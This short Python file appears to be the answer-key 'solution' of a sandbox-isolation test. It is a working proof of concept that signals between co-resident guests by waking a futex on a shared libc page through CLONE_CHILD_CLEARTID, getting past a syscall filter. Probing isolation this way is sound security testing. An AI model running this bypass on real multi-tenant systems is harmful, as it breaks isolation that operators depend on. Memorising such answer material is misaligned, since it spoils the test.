"""Wait for a wake-up on a page of a library, which is one futex for all guests that run at once, and give one there.

A thread that ends has the kernel wake whoever waits at an address of the thread's choice (`CLONE_CHILD_CLEARTID`), whatever a
filter says of calls that wake. Must be observed: nobody can wait there. Source: our own; it handed over sixteen bits.
"""

import ctypes
import mmap
import os
import struct
import threading
import time

NUMBERS = ()
ROLE = "solution"
MEMORY, FILES, SIGHAND, THREAD, SYSVSEM, CLEAR = 0x100, 0x600, 0x800, 0x10000, 0x40000, 0x200000


def attack(targets):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    futex = {"x86_64": 202, "aarch64": 98}[os.uname().machine]
    address = ctypes.cast(libc.abs, ctypes.c_void_p).value & -64
    word, woken = ctypes.c_void_p(address), []
    value = ctypes.c_uint32.from_address(address).value

    def wait():
        woken.append(libc.syscall(futex, word, 0, value, struct.pack("qq", 2, 0), 0, 0) == 0)

    waiting = threading.Thread(target=wait)
    waiting.start()
    time.sleep(0.2)
    stack = mmap.mmap(-1, 65536)
    top = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(stack)) + 65536 - 64)
    libc.clone(libc.abs, top, MEMORY | FILES | SIGHAND | THREAD | SYSVSEM | CLEAR, 0, None, None, word)
    waiting.join()
    return "woken through a page of a library" if woken == [True] else None
